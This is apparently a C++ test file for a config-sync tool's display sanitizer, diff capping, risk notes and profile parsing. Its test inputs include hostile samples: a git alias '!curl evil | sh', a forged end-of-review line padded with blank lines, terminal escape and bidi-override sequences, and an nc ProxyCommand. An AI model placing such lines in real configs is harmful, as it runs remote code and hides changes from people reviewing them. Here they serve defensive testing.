// The display sanitizer, the capped diff, risk notes and profile parsing.
#include <doctest/doctest.h>

#include "syncconfig/display.h"
#include "syncconfig/profile.h"
#include "syncconfig/risk.h"
#include "syncconfig/state.h"
#include "syncconfig_support.h"

using namespace reliant;
using namespace reliant::syncconfig;
using namespace reliant::syncconfig::testing;

namespace {

bool printable(const std::string& text) {
    for (unsigned char c : text)
        if (c != '\n' && (c < 0x20 || c > 0x7e)) return false;
    return true;
}

}  // namespace

TEST_CASE("sanitizer: escapes, bidi and zero-width characters are shown visibly") {
    CHECK(sanitize_line("plain text", 512) == "plain text");
    CHECK(sanitize_line("\x1b[2J", 512) == "\\x1b[2J");
    CHECK(sanitize_line("\x1b]52;c;ZXZpbA==\x07", 512) == "\\x1b]52;c;ZXZpbA==\\x07");
    CHECK(sanitize_line("a\rb", 512) == "a\\x0db");
    CHECK(sanitize_line("a\bb", 512) == "a\\x08b");
    CHECK(sanitize_line("tab\there", 512) == "tab\\there");
    CHECK(sanitize_line("x\xe2\x80\xae" "cod", 512) == "x\\u{202e}cod");  // RIGHT-TO-LEFT OVERRIDE
    CHECK(sanitize_line("a\xe2\x80\x8b" "b", 512) == "a\\u{200b}b");      // ZERO WIDTH SPACE
    CHECK(sanitize_line("\xef\xbb\xbf", 512) == "\\u{feff}");
    CHECK(sanitize_line("caf\xc3\xa9", 512) == "caf\\u{00e9}");
    CHECK(sanitize_line("\xc0\xae", 512) == "\\xc0\\xae");  // overlong: bytes, not a '.'
    CHECK(sanitize_line("\xed\xa0\x80", 512) == "\\xed\\xa0\\x80");  // a surrogate
    CHECK(sanitize_line(std::string("a\0b", 3), 512) == "a\\x00b");
    CHECK(sanitize_line("back\\x1b", 512) == "back\\\\x1b");  // a typed backslash stays distinguishable
    CHECK(sanitize_line("<b>markup</b>", 512) == "<b>markup</b>");
    bool escaped = false;
    sanitize_line("\x1b", 512, &escaped);
    CHECK(escaped);
    sanitize_line("ok", 512, &escaped);
    CHECK_FALSE(escaped);
    const std::string long_line(10000, 'x');
    const std::string capped = sanitize_line(long_line, 512);
    CHECK(capped.size() < 600);
    CHECK(capped.find("[+9488 bytes]") != std::string::npos);
}

TEST_CASE("diff: risky and escaped lines are marked, huge diffs are capped") {
    const std::string diff = unified_diff("[user]\n\tname = a\n", "[user]\n\tname = a\n[core]\n\tsshCommand = evil\n",
                                          [](std::string_view l) { return risky_line(".gitconfig", l); });
    CHECK(diff.find("! +\\tsshCommand = evil\n") != std::string::npos);
    CHECK(diff.find("   [user]\n") != std::string::npos);
    const std::string escaped = unified_diff("a\n", "a\n\x1b[8mhidden\n", {});
    CHECK(escaped.find("! +\\x1b[8mhidden") != std::string::npos);
    CHECK(printable(escaped));
    // A forged "end of review" followed by 5000 blank lines and an alias: the
    // cap stops the diff, and the risk note counts the alias anyway.
    std::string forged = "END OF CHANGES\n" + std::string(5000, '\n') + "[alias]\n\tx = !curl evil | sh\n";
    const std::string capped = unified_diff("", forged, {});
    CHECK(capped.find("diff capped") != std::string::npos);
    const auto notes = risk_notes(".gitconfig", forged, false);
    REQUIRE_FALSE(notes.empty());
    CHECK(notes.back().find("line(s) with keys that run commands") != std::string::npos);
    // Too many cells: a summary, not an O(n*m) table.
    std::string a, b;
    for (int i = 0; i < 3000; ++i) {
        a += "a" + std::to_string(i) + "\n";
        b += "b" + std::to_string(i) + "\n";
    }
    CHECK(unified_diff(a, b, {}).find("too many changes to show") != std::string::npos);
    CHECK(unified_diff("x", std::string("\0bin", 4), {}).find("binary content") != std::string::npos);
    CHECK(unified_diff("same\n", "same\n", {}) == "  (no change)\n");
}

TEST_CASE("risk notes name files that run code") {
    CHECK_FALSE(risk_notes(".bashrc", "", false).empty());
    CHECK_FALSE(risk_notes(".config/autostart/x.desktop", "Exec=x", false).empty());
    CHECK_FALSE(risk_notes(".config/systemd/user/x.service", "", false).empty());
    CHECK_FALSE(risk_notes(".ssh/config", "ProxyCommand nc %h %p", false).empty());
    CHECK(risk_notes(".config/foo/plain.conf", "x=1", false).empty());
    CHECK(risk_notes(".config/foo/plain.conf", "x=1", true).front() == "executable mode");
    CHECK(risky_line(".gitconfig", "\tsshCommand = ssh -i key"));
    CHECK(risky_line(".config/git/config", "[alias]"));
    CHECK_FALSE(risky_line(".config/foo/plain.conf", "sshCommand"));
}

TEST_CASE("profiles from QubesDB: only exact names, only valid tokens, limits only lowered") {
    auto p = parse_profile("git", "allow=.gitconfig allow=.config/git/** deny=.config/git/credentials "
                                  "secret=.config/git/credentials* exec=.local/bin/* max-file=100 max-total=99999999999");
    REQUIRE(p.ok());
    CHECK(p->allows(".gitconfig"));
    CHECK(p->allows(".config/git/config"));
    CHECK_FALSE(p->allows(".config/git/credentials"));
    CHECK_FALSE(p->allows(".bashrc"));
    CHECK(p->is_secret(".config/git/credentials-x"));
    CHECK(p->limits.max_file_bytes == 100);
    CHECK(p->limits.max_total_bytes == hard_max_total_bytes);  // never raised
    for (const char* bad : {"", "deny=x", "allow=/etc/**", "allow=../x", "allow=a max-file=-1", "allow=a bogus=1",
                            "allow=a max-file=1k", "allow", "allow=a**"})
        CHECK_MESSAGE(!parse_profile("git", bad).ok(), bad);
    CHECK_FALSE(parse_profile("Git", "allow=a").ok());
    CHECK_FALSE(parse_profile("git", "allow=a " + std::string(3100, 'x')).ok());
    // The hard-deny list beats any profile.
    auto wide = parse_profile("wide", "allow=**");
    REQUIRE(wide.ok());
    CHECK_FALSE(wide->allows(".local/state/syncconfig/applied"));
    CHECK_FALSE(wide->allows(".local/state/SYNCCONFIG/x"));
    CHECK(wide->allows(".local/state/other"));
}

TEST_CASE("QubesDB through the qubesdb-read stand-in: absent keys, exact names, odd values") {
    Target t;
    ExecQubesDb db(t.qubesdb_read());
    auto enabled = enabled_profile(db, "test");
    REQUIRE(enabled.ok());
    CHECK(enabled->has_value());
    t.remove_qubesdb("/vm-config/syncconfig.profiles");
    enabled = enabled_profile(db, "test");
    REQUIRE(enabled.ok());
    CHECK_FALSE(enabled->has_value());
    for (const std::string& list : std::vector<std::string>{"", "tes", "test2", "TEST", "test\x01", "xtest", std::string(3072, 't')}) {
        t.set_qubesdb("/vm-config/syncconfig.profiles", list);
        enabled = enabled_profile(db, "test");
        REQUIRE(enabled.ok());
        CHECK_FALSE(enabled->has_value());
    }
    t.set_qubesdb("/vm-config/syncconfig.profiles", "git\ntest\tvim");
    enabled = enabled_profile(db, "test");
    REQUIRE(enabled.ok());
    CHECK(enabled->has_value());
    t.remove_qubesdb("/vm-config/syncconfig.profile.test");  // listed but not defined: not enabled
    enabled = enabled_profile(db, "test");
    REQUIRE(enabled.ok());
    CHECK_FALSE(enabled->has_value());
    ExecQubesDb missing("/nonexistent/qubesdb-read");
    CHECK_FALSE(enabled_profile(missing, "test").ok());  // cannot ask: an error, not "enabled"
}

TEST_CASE("the home comes from /etc/passwd, for the exact uid") {
    const std::string passwd = "root:x:0:0:root:/root:/bin/bash\nuser:x:1000:1000:,,,:/home/user:/bin/bash\n"
                               "odd:x:10000:1:x:/home/odd:/bin/sh\nrel:x:1001:1:x:home/rel:/bin/sh\n";
    CHECK(*home_from_passwd(passwd, 1000) == "/home/user");
    CHECK(*home_from_passwd(passwd, 0) == "/root");
    CHECK(*home_from_passwd(passwd, 10000) == "/home/odd");
    CHECK_FALSE(home_from_passwd(passwd, 100).ok());   // a prefix of 1000 and 10000 is no match
    CHECK_FALSE(home_from_passwd(passwd, 1001).ok());  // not absolute
    CHECK_FALSE(home_from_passwd("user:x:1000:1000::/home/user\n", 1000).ok());  // 6 fields
}
